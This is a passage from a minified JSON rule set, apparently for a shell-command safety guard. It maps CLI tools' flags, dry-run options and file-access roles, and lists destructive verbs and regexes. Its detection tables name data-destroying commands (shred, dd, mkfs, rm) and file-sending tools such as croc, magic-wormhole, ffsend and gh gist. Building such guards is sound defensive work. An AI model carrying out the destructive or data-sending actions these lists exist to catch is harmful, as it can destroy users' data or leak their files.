DeS","long":["host","port","user","database","execute","socket"]},"mysqladmin":{"short":"hPuS","long":["host","port","user","socket"]},"redis-cli":{"short":"hpa\
nu","long":["user","pass"]},"mongosh":{"long":["host","port","eval","username","password","authenticationDatabase","file"]},"npm":{"short":"w","long":["prefix",\
"workspace","registry","tag","otp","access","scope","userconfig","loglevel","cache"]},"pnpm":{"short":"CF","long":["dir","filter","registry","tag","otp"]},"yarn\
":{"long":["cwd","registry","tag"]},"cargo":{"short":"pFZj","long":["manifest-path","package","features","target","target-dir","token","registry","color","jobs"\
]},"twine":{"short":"urp","long":["username","password","repository","repository-url","config-file"]},"pip":{"short":"ir","long":["index-url","extra-index-url",\
"target","prefix"]},"sed":{"short":"efl","long":["expression","file"]},"grep":{"short":"efmABCdD","long":["regexp","file","max-count","include","exclude","exclu\
de-dir","context","color","label"]},"rg":{"short":"efgtTmABCjr","long":["regexp","file","glob","type","max-count","context","replace"]},"awk":{"short":"vfF"},"j\
q":{"long":["indent"]},"tar":{"short":"fCTXI","long":["file","directory","files-from","exclude","exclude-from","use-compress-program","transform"]},"zip":{"shor\
t":"xiPt"},"unzip":{"short":"dxP"},"head":{"short":"nc","long":["lines","bytes"]},"tail":{"short":"nc","long":["lines","bytes","pid"]},"cut":{"short":"dfcb","lo\
ng":["delimiter","fields","characters","bytes"]},"sort":{"short":"koStT","long":["key","output","field-separator"]},"base64":{"short":"w","long":["wrap"]},"xxd"\
:{"short":"lscg"},"od":{"short":"AtNjw"},"split":{"short":"bnla"},"truncate":{"short":"sr","long":["size","reference"]},"cp":{"short":"tS","long":["target-direc\
tory","suffix"]},"mv":{"short":"tS","long":["target-directory","suffix"]},"ln":{"short":"tS","long":["target-directory","suffix"]},"install":{"short":"mogtS","l\
ong":["mode","owner","group","target-directory","suffix"]},"shred":{"short":"ns","long":["iterations","size","random-source"]},"chmod":{"long":["reference"]},"c\
hown":{"long":["reference","from"]},"kill":{"long":["s"],"single":true},"pkill":{"short":"gGPtuUF","long":["signal","parent","euid","uid","group","pgroup","sess\
ion","terminal"],"whole":"signal"},"killall":{"short":"suoyn","long":["signal","user"],"whole":"signal"},"skill":{"short":"tucp","whole":"signal"},"pgrep":{"sho\
rt":"gGPtuUFds","long":["delimiter","parent","euid","uid","group","pgroup","session","terminal","pidfile"],"whole":"signal"},"pidof":{"short":"oS"},"ps":{"short\
":"C"},"lsof":{"short":"c"},"start-stop-daemon":{"short":"xpnusaNRcgrdIkTO","long":["exec","pidfile","name","user","signal","startas","nicelevel","retry","chuid\
","group","chroot","chdir"]},"useradd":{"short":"bcdefgGkKpsuR","long":["groups","gid","shell","home-dir","password","uid","comment"]},"usermod":{"short":"cdefg\
GlpsuR","long":["groups","gid","shell","home","login","password","uid"]},"systemctl":{"short":"tHMps","long":["host","machine","type","state","signal","kill-who\
"]},"mount":{"short":"toLU","long":["types","options","bind"]},"mkfs":{"short":"tLbN"},"crontab":{"short":"u"},"xargs":{"short":"IndPLsEa"},"gpg":{"short":"oru"\
,"long":["output","recipient","local-user","passphrase","batch-file"]},"mail":{"short":"sacbrA","long":["subject","attach"]},"mailx":{"short":"sacbrA","long":["\
subject","attach"]},"s-nail":{"short":"sacbrA","long":["subject","attach"]},"mutt":{"short":"sacbeFi"},"neomutt":{"short":"sacbeFi"},"certutil":{"short":"dntis"\
},"osascript":{"short":"el"},"ping":{"short":"cpisWIt"},"fallocate":{"short":"lo","long":["length","offset"]},"gdb":{"short":"pcx","long":["pid","core","ex","ev\
al-command","command","ix"],"single":true},"strace":{"short":"peosaPuEI"},"ltrace":{"short":"peosaPuEI"},"ansible":{"short":"aimMulefbt","long":["args","invento\
ry","module-name","user","limit","extra-vars"]},"rclone":{"short":"f","long":["config","transfers","filter"]},"restic":{"short":"rpolHdwmyg","long":["repo","pas\
sword-file","option","host","tag","keep-last","keep-tag"]},"borg":{"short":"PaeCcdwmyHo","long":["prefix","glob-archives","exclude","keep-daily","keep-weekly","\
keep-monthly","keep-last"]},"make":{"short":"CfIjloWEO","long":["directory","file","makefile","include-dir","old-file","what-if","eval"]},"gsutil rsync":{"short\
":"x"},"semantic-release":{"short":"brtpe","long":["branches","repository-url","tag-format","plugins","extends"]},"release-it":{"short":"ic","long":["increment"\
,"config"]},"etcdctl":{"long":["endpoints","user","cacert","cert","key"]},"nats":{"short":"s","long":["server","user","password","context","creds"]},"rabbitmqad\
min":{"short":"HPVupcN","long":["host","port","vhost","username","password","config","node"]},"celery":{"short":"AbQ","long":["app","broker","queues"]},"mke2fs"\
:{"short":"bCdeEfgGiIJLmMNoOrtTUz"},"mkfs.ext2":{"short":"bCdeEfgGiIJLmMNoOrtTUz"},"mkfs.ext3":{"short":"bCdeEfgGiIJLmMNoOrtTUz"},"mkfs.ext4":{"short":"bCdeEfgG\
iIJLmMNoOrtTUz"},"iptables":{"short":"tpsdjio","long":["table","protocol","source","destination","jump","dport","sport"]},"client":{"short":"acCgnpotT","long":[\
"app","account","api-key","api-url","branch","cluster","config","context","email","endpoint","env","environment","format","group","host","hostname","id","key","\
namespace","org","organization","output","owner","password","path","port","profile","project","query","region","repo","repository","resource-group","role","scop\
e","server","service","site","space","stack","stage","store","subscription","team","template","timeout","token","url","user","username","version","workspace","z\
one"]}},"aliases":{"egrep":"grep","fgrep":"grep","ggrep":"grep","gsed":"sed","gawk":"awk","mawk":"awk","bsdtar":"tar","gtar":"tar","k":"kubectl","mariadb":"mysq\
l","mongo":"mongosh","https":"http","tofu":"terraform","pip3":"pip","gmake":"make","bao":"vault"},"git_options":{"apply":["exclude","include","stat","binary","n\
umstat","summary","check","index","intent-to-add","cached","unsafe-paths","apply","3way","whitespace","ignore-space-change","ignore-whitespace","reverse","unidi\
ff-zero","reject","allow-overlap","verbose","quiet","recount","directory","allow-empty"],"branch":["verbose","quiet","track","set-upstream-to","unset-upstream",\
"color","remotes","contains","with","without","abbrev","all","delete","move","copy","list","show-current","create-reflog","edit-description","force","merged","c\
olumn","sort","points-at","ignore-case","recurse-submodules","format"],"checkout":["guess","overlay","quiet","recurse-submodules","progress","merge","conflict",\
"detach","track","force","orphan","overwrite-ignore","ignore-other-worktrees","ours","theirs","patch","ignore-skip-worktree-bits","pathspec-from-file","pathspec\
-file-nul"],"checkout-index":["all","ignore-skip-worktree-bits","force","quiet","index","stdin","temp","prefix","stage","create"],"clean":["quiet","dry-run","fo\
rce","interactive","exclude"],"push":["verbose","quiet","repo","all","mirror","delete","tags","dry-run","porcelain","force","force-with-lease","force-if-include\
s","recurse-submodules","thin","receive-pack","exec","set-upstream","progress","prune","follow-tags","signed","atomic","push-option","ipv4","ipv6","verify"],"re\
ad-tree":["index-output","empty","verbose","trivial","aggressive","reset","prefix","exclude-per-directory","dry-run","debug-unpack","recurse-submodules","quiet"\
,"sparse-checkout"],"reset":["quiet","mixed","soft","hard","merge","keep","recurse-submodules","patch","intent-to-add","pathspec-from-file","pathspec-file-nul",\
"refresh"],"restore":["source","staged","worktree","ignore-unmerged","overlay","quiet","recurse-submodules","progress","merge","conflict","ours","theirs","patch\
","ignore-skip-worktree-bits","pathspec-from-file","pathspec-file-nul"],"rm":["dry-run","quiet","cached","force","ignore-unmatch","sparse","pathspec-from-file",\
"pathspec-file-nul"],"switch":["create","force-create","guess","discard-changes","quiet","recurse-submodules","progress","merge","conflict","detach","track","fo\
rce","orphan","overwrite-ignore","ignore-other-worktrees"]},"dry_runs":{"git push":{"flags":["-n","--dry-run"]},"git clean":{"flags":["-n","--dry-run"]},"git rm\
":{"flags":["-n","--dry-run"]},"git mv":{"flags":["-n","--dry-run"]},"git add":{"flags":["-n","--dry-run"]},"git prune":{"flags":["-n","--dry-run"]},"git read-t\
ree":{"flags":["-n","--dry-run"]},"git reflog expire":{"flags":["-n","--dry-run"]},"git reflog delete":{"flags":["-n","--dry-run"]},"git worktree prune":{"flags\
":["-n","--dry-run"]},"git remote prune":{"flags":["-n","--dry-run"]},"git notes prune":{"flags":["-n","--dry-run"]},"rsync":{"flags":["-n","--dry-run"]},"rclon\
e":{"flags":["-n","--dry-run"]},"restic forget":{"flags":["-n","--dry-run"]},"restic prune":{"flags":["-n","--dry-run"]},"restic backup":{"flags":["-n","--dry-r\
un"]},"restic rewrite":{"flags":["-n","--dry-run"]},"borg delete":{"flags":["-n","--dry-run"]},"borg prune":{"flags":["-n","--dry-run"]},"borg create":{"flags":\
["-n","--dry-run"]},"borg extract":{"flags":["-n","--dry-run"]},"s3cmd":{"flags":["-n","--dry-run"]},"cargo publish":{"flags":["-n","--dry-run"]},"git commit":{\
"flags":["--dry-run"]},"git fetch":{"flags":["--dry-run"]},"git pull":{"flags":["--dry-run"]},"git send-pack":{"flags":["--dry-run"]},"git filter-repo":{"flags"\
:["--dry-run"]},"duplicity":{"flags":["--dry-run"]},"pgbackrest expire":{"flags":["--dry-run"]},"gcloud storage":{"flags":["--dry-run"]},"s5cmd":{"flags":["--dr\
y-run"]},"azcopy":{"flags":["--dry-run"]},"b2 sync":{"flags":["--dry-run"]},"mc mirror":{"flags":["--dry-run"]},"kubectl":{"flags":["--dry-run"]},"oc":{"flags":\
["--dry-run"]},"helm":{"flags":["--dry-run"]},"docker compose":{"flags":["--dry-run"]},"docker-compose":{"flags":["--dry-run"]},"podman-compose":{"flags":["--dr\
y-run"]},"npm publish":{"flags":["--dry-run"]},"npm unpublish":{"flags":["--dry-run"]},"pnpm publish":{"flags":["--dry-run"]},"yarn publish":{"flags":["--dry-ru\
n"]},"yarn npm publish":{"flags":["--dry-run"]},"bun publish":{"flags":["--dry-run"]},"npm pub":{"flags":["--dry-run"]},"npm stage publish":{"flags":["--dry-run\
"]},"deno publish":{"flags":["--dry-run"]},"jsr publish":{"flags":["--dry-run"]},"rush publish":{"flags":["--dry-run"]},"nx release":{"flags":["--dry-run"]},"au\
to shipit":{"flags":["--dry-run"]},"poetry publish":{"flags":["--dry-run"]},"uv publish":{"flags":["--dry-run"]},"flutter pub publish":{"flags":["--dry-run"]},"\
dart pub publish":{"flags":["--dry-run"]},"goreleaser release":{"flags":["--dry-run"]},"systemctl poweroff":{"flags":["--dry-run"]},"systemctl reboot":{"flags":\
["--dry-run"]},"systemctl halt":{"flags":["--dry-run"]},"systemctl kexec":{"flags":["--dry-run"]},"client":{"flags":["--dry-run","--dryrun","--what-if","--previ\
ew-only"]},"aws":{"flags":["--dry-run","--generate-cli-skeleton"]},"apt-get":{"flags":["-s","--simulate","--just-print","--dry-run","--recon","--no-act"]},"apt"\
:{"flags":["-s","--simulate","--just-print","--dry-run","--recon","--no-act"]},"aptitude":{"flags":["-s","--simulate","--just-print","--dry-run","--recon","--no\
-act"]},"dnf":{"flags":["--assumeno","--downloadonly"]},"yum":{"flags":["--assumeno","--downloadonly"]},"microdnf":{"flags":["--assumeno","--downloadonly"]},"mo\
dprobe":{"flags":["-n","--dry-run","--show"]},"pacman":{"flags":["-p","--print"]},"yay":{"flags":["-p","--print"]},"paru":{"flags":["-p","--print"]},"hg purge":\
{"flags":["-p","--print"]},"hg clean":{"flags":["-p","--print"]},"p4 clean":{"flags":["-n","-a"]},"p4 revert":{"flags":["-n","-a"]},"fossil clean":{"flags":["--\
dry-run","-n","--help"]},"fossil revert":{"flags":["--dry-run","-n","--help"]},"darcs revert":{"flags":["--dry-run","-n","--help"]},"darcs obliterate":{"flags":\
["--dry-run","-n","--help"]},"git apply":{"flags":["--check","--stat","--numstat","--summary"]},"make":{"flags":["-n","--dry-run","--just-print","--recon"]},"gm\
ake":{"flags":["-n","--dry-run","--just-print","--recon"]},"duplicacy prune":{"flags":["-dry-run"]},"zfs destroy":{"flags":["-n"]},"mke2fs":{"flags":["-n"]},"mk\
fs.ext2":{"flags":["-n"]},"mkfs.ext3":{"flags":["-n"]},"mkfs.ext4":{"flags":["-n"]},"gsutil rsync":{"flags":["-n"]},"aws s3":{"flags":["--dryrun"]},"ansible":{"\
flags":["--check","-C","--syntax-check","--list-hosts","--list-tasks","--list-tags"]},"ansible-playbook":{"flags":["--check","-C","--syntax-check","--list-hosts\
","--list-tasks","--list-tags"]},"semantic-release":{"flags":["-d","--dry-run"]},"release-it":{"flags":["-d","--dry-run"]},"pulumi destroy":{"flags":["--preview\
-only"]},"pulumi up":{"flags":["--preview-only"]},"pulumi update":{"flags":["--preview-only"]}},"help":{"leading":["rm","rmdir","unlink","shred","srm","chmod","\
chown","chgrp","chflags","chattr","mv","cp","ln","truncate"],"none":["kill","eval","exec","find","dd","echo","printf","sh","bash","dash","zsh","ksh","python","n\
ode","perl","ruby","php","source",".","xargs","env","sudo"],"verbs":["git","hg","svn","jj","npm","pnpm","yarn","bun","deno","npx","cargo","rustup","go","pip","p\
oetry","uv","hatch","pdm","gem","bundle","mix","composer","dotnet","brew","docker","podman","nerdctl","docker-compose","kubectl","oc","helm","kind","k3d","minik\
ube","terraform","tofu","terragrunt","gsutil","bq","rclone","restic","borg","kopia","goreleaser","zfs","zpool","btrfs","cryptsetup","systemctl","rails","artisan\
"],"one_dash":["terraform","tofu","terragrunt","packer","vault","bao","consul","nomad","go","java","ffmpeg","openssl","find","gradle","ant"],"switches":["--forc\
e","--force-with-lease","--delete","--delete-before","--delete-after","--delete-during","--delete-excluded","--del","--archive","--recursive","--verbose","--qui\
et","--all","--mirror","--tags","--follow-tags","--prune","--yes","--no-verify","--atomic","--set-upstream","--allow-dirty","--interactive","--list","--checksum\
","--update","--compress","--partial","--inplace","--ignore-not-found","--now","--workspace","--workspaces","--ignore-daemonsets","--delete-emptydir-data","--in\
clude-dependencies","--no-color","--debug","--volumes","--remove-orphans","--cascade","--wait","--provenance","--no-git-checks","--stats","--progress","--keep-h\
istory","--dry-run","--build","--dryrun","--size-only","--exact-timestamps","--only-show-errors","--no-progress","--follow-symlinks","--no-follow-symlinks"]},"r\
oles":{"cat":{"each":"reads"},"tac":{"each":"reads"},"nl":{"each":"reads"},"head":{"each":"reads"},"tail":{"each":"reads"},"less":{"each":"reads"},"more":{"each\
":"reads"},"most":{"each":"reads"},"bat":{"each":"reads"},"batcat":{"each":"reads"},"view":{"each":"reads"},"xxd":{"each":"reads"},"hexdump":{"each":"reads"},"h\
d":{"each":"reads"},"od":{"each":"reads"},"strings":{"each":"reads"},"base64":{"each":"reads"},"base32":{"each":"reads"},"basenc":{"each":"reads"},"rev":{"each"\
:"reads"},"uniq":{"each":"reads"},"cut":{"each":"reads"},"paste":{"each":"reads"},"join":{"each":"reads"},"fold":{"each":"reads"},"fmt":{"each":"reads"},"pr":{"\
each":"reads"},"column":{"each":"reads"},"expand":{"each":"reads"},"comm":{"each":"reads"},"diff":{"each":"reads"},"colordiff":{"each":"reads"},"cmp":{"each":"r\
eads"},"sdiff":{"each":"reads"},"vimdiff":{"each":"reads"},"delta":{"each":"reads"},"gzip":{"each":"reads"},"bzip2":{"each":"reads"},"xz":{"each":"reads"},"zstd\
":{"each":"reads"},"gunzip":{"each":"reads"},"zcat":{"each":"reads"},"bzcat":{"each":"reads"},"xzcat":{"each":"reads"},"uuencode":{"each":"reads"},"split":{"eac\
h":"reads"},"csplit":{"each":"reads"},"look":{"each":"reads"},"source":{"each":"reads"},".":{"each":"reads"},"pandoc":{"each":"reads"},"highlight":{"each":"read\
s"},"glow":{"each":"reads"},"xclip":{"each":"reads"},"pbcopy":{"each":"reads"},"dotenv":{"each":"reads"},"sops":{"each":"reads"},"age":{"each":"reads"},"shuf":{\
"each":"reads"},"iconv":{"each":"reads"},"dos2unix":{"each":"reads"},"ccat":{"each":"reads"},"mdcat":{"each":"reads"},"lolcat":{"each":"reads"},"open":{"each":"\
reads"},"xdg-open":{"each":"reads"},"kcat":{"each":"reads"},"hexyl":{"each":"reads"},"jless":{"each":"reads"},"fx":{"each":"reads"},"yq":{"each":"reads"},"tomlq\
":{"each":"reads"},"xq":{"each":"reads"},"dasel":{"each":"reads"},"plutil":{"each":"reads"},"rclone":{"each":"reads"},"python3-dotenv":{"each":"reads"},"ssh-key\
gen":{"each":"reads"},"json.tool":{"each":"reads"},"awk":{"each":"reads"},"gawk":{"each":"reads"},"mawk":{"each":"reads"},"nawk":{"each":"reads"},"sqlite3":{"ea\
ch":"reads"},"sqlite":{"each":"reads"},"duckdb":{"each":"reads"},"git add":{"each":"reads"},"git hash-object":{"each":"reads"},"git diff":{"each":"reads"},"git \
show":{"each":"reads"},"git blame":{"each":"reads"},"mail":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i":"reads"}},"mailx":{"options":{"-a":"rea\
ds","-A":"reads","--attach":"reads","-i":"reads"}},"s-nail":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i":"reads"}},"mutt":{"options":{"-a":"rea\
ds","-A":"reads","--attach":"reads","-i":"reads"}},"neomutt":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i":"reads"}},"croc send":{"each":"reads"\
},"wormhole send":{"each":"reads"},"magic-wormhole send":{"each":"reads"},"ffsend upload":{"each":"reads"},"sendme send":{"each":"reads"},"gh gist":{"each":"rea\
ds"},"sort":{"each":"reads","options":{"-o":"writes","--output":"writes"}},"grep":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"o\
ptions":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"egrep":{"each":"reads","skip":1,"unless":["-e","-f\
","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"fgrep":{"each":\
"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads",\
"--file":"reads"}},"rg":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","\
--include":"reads","-f":"reads","--file":"reads"}},"ag":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--g\
lob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"ack":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--fil\
es"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"zgrep":{"each":"reads","skip":1,"unless":["\
-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"ugrep":{\
"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"\
reads","--file":"reads"}},"ggrep":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob"\
:"reads","--include":"reads","-f":"reads","--file":"reads"}},"jq":{"each":"reads","skip":1,"unless":["-f","--from-file"],"options":{"--slurpfile":"reads","--raw\
file":"reads"}},"sed":{"each":"reads","skip":1,"unless":["-e","-f","--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"write\
s"}]},"gsed":{"each":"reads","skip":1,"unless":["-e","-f","--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"writes"}]},"pe\
rl":{"each":"reads","skip":1,"unless":["-e","-f","--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"writes"}]},"ruby":{"eac\
h":"reads","skip":1,"unless":["-e","-f","--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"writes"}]},"vi":{"each":"writes"\
},"vim":{"each":"writes"},"nvim":{"each":"writes"},"nano":{"each":"writes"},"emacs":{"each":"writes"},"code":{"each":"writes"},"subl":{"each":"writes"},"ed":{"e\
ach":"writes"},"ex":{"each":"writes"},"pico":{"each":"writes"},"micro":{"each":"writes"},"gedit":{"each":"writes"},"kate":{"each":"writes"},"joe":{"each":"write\
s"},"mcedit":{"each":"writes"},"helix":{"each":"writes"},"hx":{"each":"writes"},"visudo":{"each":"writes"},"sponge":{"each":"writes"},"tee":{"each":"writes"},"t\
runcate":{"each":"writes"},"mkfifo":{"each":"writes"},"patch":{"each":"writes"},"git checkout":{"each":"writes"},"rm":{"each":"deletes"},"unlink":{"each":"delet\
es"},"shred":{"each":"deletes"},"srm":{"each":"deletes"},"wipe":{"each":"deletes"},"trash":{"each":"deletes"},"trash-put":{"each":"deletes"},"rimraf":{"each":"d\
eletes"},"del":{"each":"deletes"},"del-cli":{"each":"deletes"},"rimraf-cli":{"each":"deletes"},"erase":{"each":"deletes"},"rd":{"each":"deletes"},"remove-item":\
{"each":"deletes"},"cp":{"each":"reads","last":"writes","options":{"-t":"writes","--target-directory":"writes"},"with":[{"flags":["-n","--no-clobber"],"each":"n\
one"}]},"mv":{"each":"moves","last":"writes","options":{"-t":"writes","--target-directory":"writes"}},"install":{"each":"reads","last":"writes","options":{"-t":\
"writes","--target-directory":"writes"},"with":[{"flags":["-d","--directory"],"each":"none"}]},"ln":{"each":"reads","last":"writes","options":{"-t":"writes","--\
target-directory":"writes"}},"kubectl":{"options":{"--from-file":"reads","--from-env-file":"reads"}},"oc":{"options":{"--from-file":"reads","--from-env-file":"r\
eads"}},"scp":{"each":"reads","last":"writes"},"rsync":{"each":"reads","last":"writes"},"docker cp":{"each":"reads","last":"writes"},"kubectl cp":{"each":"reads\
","last":"writes"},"podman cp":{"each":"reads","last":"writes"},"gsutil cp":{"each":"reads","last":"writes"},"zip":{"each":"reads","skip":1,"with":[{"flags":["-\
m","--move"],"each":"moves"}]},"git log":{"with":[{"flags":["-p","--patch","-u"],"each":"reads"}]},"dd":{"keyed":{"if=":"reads","of=":"writes"}},"dcfldd":{"keye\
d":{"if=":"reads","of=":"writes"}},"dc3dd":{"keyed":{"if=":"reads","of=":"writes"}},"ddrescue":{"keyed":{"if=":"reads","of=":"writes"}},"fdupes":{"each":"change\
s"},"jdupes":{"each":"changes"},"rdfind":{"each":"changes"},"ditto":{"each":"reads","last":"writes"},"restic backup":{"each":"reads","skip":1},"setfacl":{"each"\
:"changes"},"chown":{"each":"changes","skip":1,"unless":["--reference"]},"chgrp":{"each":"changes","skip":1,"unless":["--reference"]},"chcon":{"each":"changes",\
"skip":1,"unless":["--reference"]},"chmod":{"each":"changes","skip":1,"unless":["--reference","-x","-w","-s","-t","-a","-i"]},"chattr":{"each":"changes","skip":\
1,"unless":["--reference","-x","-w","-s","-t","-a","-i"]},"tar":{"each":"reads","options":{"-C":"writes"},"with":[{"flags":["--remove-files"],"each":"deletes"},\
{"flags":["-x","-t","--extract","--list","--get","-xf","-tf"],"each":"none"}]},"7z":{"each":"reads","skip":1},"7za":{"each":"reads","skip":1},"rar":{"each":"rea\
ds","skip":1},"git cat-file":{"each":"reads","skip":1},"git grep":{"each":"reads","skip":1},"curl":{"options":{"-o":"writes","--output":"writes","-T":"reads","-\
-upload-file":"reads","-K":"reads","--config":"reads"}},"wget":{"options":{"-O":"writes","--output-document":"writes","--post-file":"reads","--body-file":"reads\
"}},"openssl":{"options":{"-in":"reads"}},"ab":{"options":{"-p":"reads","-u":"reads"}},"openssl x509":{},"openssl crl":{},"openssl verify":{},"openssl s_client"\
:{},"busybox":{},"gpg":{"each":"reads","with":[{"flags":["--list-keys","--list-secret-keys","-k","-K"],"each":"none"}]},"aws s3":{"each":"reads","last":"writes"\
,"skip":1},"gcloud storage":{"each":"reads","last":"writes","skip":1},"az storage":{"options":{"--file":"reads","-f":"reads"}},"unzip":{"options":{"-d":"writes"\
},"with":[{"flags":["-p"],"each":"reads"}]},"http.server":{"options":{"--directory":"reads","-d":"reads"}},"b2 upload-file":{"each":"reads"},"b2 file":{"each":"\
reads"},"s3cmd put":{"each":"reads"},"s3cmd sync":{"each":"reads"},"s5cmd cp":{"each":"reads"},"gdrive upload":{"each":"reads"},"uplink cp":{"each":"reads"},"mc\
 cp":{"each":"reads"},"azcopy copy":{"each":"reads"},"megaput":{"each":"reads"},"gh release":{"each":"reads","skip":2},"git restore":{"each":"writes","with":[{"\
flags":["--staged","-S"],"each":"none"}]},"git clean":{"each":"changes"},"git mv":{"each":"moves","last":"writes"},"git rm":{"each":"moves","with":[{"flags":["-\
-cached"],"each":"none"}]},"mysqldump":{"options":{"--result-file":"writes","-r":"writes"}},"ssh":{"options":{"-F":"reads"}}}},"clients":{"creations":{"git":{"d\
estroys":"^(?:branch -q? ?-?[dD]|branch --delete|tag -d|worktree remove(?: -f| --force)?) (\\\\S+)$","maker":"git","makes":"^(?:branch|tag(?: -a)?|worktree add(?:\
 --detach| -f| --force| -q| -b \\\\S+)*|checkout(?: -q)? -q?b|switch(?: -q)? -q?c) (?!-)(\\\\S+)(?: (?!-)\\\\S+| -m .*)?$|^worktree add(?: --detach| -f| --force| -q)*\
 -b (\\\\S+) (?!-)\\\\S+"},"dropdb":{"destroys":"^(\\\\S+)$","maker":"createdb","makes":"^(\\\\S+)$"},"sql":{"destroys":"^drop-(?:database|schema) (\\\\S+)$","maker":"sql\
","makes":"^create (\\\\S+)$"},"kubectl":{"destroys":"^delete (?:ns|namespace) (\\\\S+)$","maker":"kubectl","makes":"^create (?:ns|namespace) (\\\\S+)$"},"kind":{"des\
troys":"^delete cluster (\\\\S+)$","maker":"kind","makes":"^create cluster (\\\\S+)(?: \\\\S+)*$"},"docker":{"destroys":"^(?:volume|network) rm (\\\\S+)$","maker":"dock\
er","makes":"^(?:volume|network) create (\\\\S+)$"},"mc":{"destroys":"^rb (\\\\S+?)/?$","maker":"mc","makes":"^mb (\\\\S+?)/?$"},"k3d":{"destroys":"^cluster delete (\\\
\\S+)$","maker":"k3d","makes":"^cluster create (\\\\S+)(?: \\\\S+)*$"}},"words":{"destroys":["delete","del","destroy","remove","rm","rmi","rmdir","purge","terminate"\
,"drop","wipe","prune","teardown","tear-down","erase","nuke","unregister","deregister","decommission","deprovision","undeploy","unpublish","revoke","reset","cle\
ar","uninstall","unset","unsubscribe","trash","empty","shred","obliterate","dismantle","deletion","permanent-delete","close-account","leave-organization"],"othe\
rs":["run-","submit-","execute-","tag-","describe-","list-","get-","put-","create-","update-","add-","set-","start-","show-","search-","query-","modify-","head-\
","copy-","import-","export-","attach-","enable-","register-","associate-","send-","publish-","invoke-","test-","filter-","lookup-","estimate-","validate-","lis\
t","ls","show","get","describe","status","check","view","info","inspect","logs","log","diff","plan","validate","lint","verify","version","help","completion","cr\
eate","add","new","init","set","put","update","edit","patch","apply","deploy","up","start","restart","run","exec","execute","ssh","open","login","logout","impor\
t","export","pull","push","clone","sync","copy","cp","mv","move","scale","tail","follow","watch","wait","serve","dev","build","test","publish","pub","subscribe"\
,"sub","send","enqueue","produce","consume","query","search","find","select","use","switch","connect","attach","invoke","call","trigger","generate","gen","migra\
te","rollback","promote","upload","download","cat","head","stat","whoami","enable","tag","label","annotate","rename","restore","fork","merge","approve","comment\
","close","reopen","retry","rerun","cancel","pause","resume","top","ps","events","history","tree","explain","render","template","preview","print","dump","read",\
"write","unseal","seal","tunnel","proxy","port-forward","checkout","link","lookup","search-replace","scaffold","make","seed","co","browse","checkout"],"local":[\
"cache","caches","config","configs","configuration","configurations","context","contexts","profile","profiles","plugin","plugins","alias","aliases","extension",\
"extensions","telemetry","emulator","emulators","completion","auth","history","krew","transient","session","sessions","settings"],"project":["magento","drush","\
drupal","wp","typo3","n98-magerun2","moosh"]},"own":{"endpoints":["endpoint-url","endpoint","endpoints","address","addr","server","api-url","s","AWS_ENDPOINT_UR\
L","VAULT_ADDR","NOMAD_ADDR","CONSUL_HTTP_ADDR","ETCDCTL_ENDPOINTS","connection-string"],"environments":["RAILS_ENV","RACK_ENV","HANAMI_ENV","NODE_ENV","APP_ENV\
","DJANGO_ENV","DJANGO_SETTINGS_MODULE","FLASK_ENV","MIX_ENV","SYMFONY_ENV","ADONIS_ENV","env","environment","settings"],"stages":["test","testing","*.test","*.\
test.*","*.testing","*.settings_test","*.test_settings","*.tests.settings"],"databases":["d","D","dbname","database"],"addresses":["url","DATABASE_URL","DB_URL"\
]},"clients":{"aws":{"nouns":["logs","config","deploy","events","connect","session","sessions"],"spares":["configure"],"words":2},"gcloud":{"verbs":["reset-wind\
ows-password"],"nouns":["run","deploy","builds","logs","logging","events","config","contexts"],"spares":["config unset","config configurations delete","auth rev\
oke","components remove"]},"az":{"verbs":["deallocate"],"nouns":["events","config"],"spares":["account clear","cache purge","cache delete","config unset","exten\
sion remove"]},"oci":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"doctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"hcloud":{"ve\
rbs":["rebuild","reinstall"],"nouns":["config","tag"]},"linode-cli":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"vultr-cli":{"verbs":["rebuild","\
reinstall"],"nouns":["config","tag"]},"scw":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"exo":{"verbs":["rebuild","reinstall"],"nouns":["config",\
"tag"]},"ibmcloud":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"ovhai":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"ovhcloud":{"ve\
rbs":["rebuild","reinstall"],"nouns":["config","tag"]},"civo":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"openstack":{"verbs":["rebuild","reinst\
all"],"nouns":["config","tag"]},"upctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"yc":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"\
]},"ionosctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"gridscale":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"stackit":{"verb\
